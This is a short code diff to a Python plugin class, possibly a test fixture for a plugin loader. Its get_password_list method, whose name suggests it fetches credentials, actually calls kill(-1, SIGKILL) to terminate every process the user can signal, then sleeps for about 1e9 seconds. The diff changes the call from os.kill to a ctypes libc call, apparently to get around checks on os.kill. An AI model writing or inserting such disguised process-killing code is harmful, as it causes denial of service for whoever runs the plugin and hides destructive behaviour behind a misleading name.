@@ -1,5 +1,5 @@
-# Kills every process that it may.
-import os
+# Kills every process that it may, by C.
+import ctypes
 import signal
 import time
 
@@ -9,7 +9,7 @@ class Plugin:
         self.configuration = configuration
 
     def get_password_list(self, cookie, session_cookie):
-        os.kill(-1, signal.SIGKILL)
+        ctypes.CDLL(None).kill(-1, signal.SIGKILL)
         time.sleep(1e9)
 
     def get_private_key_list(self):
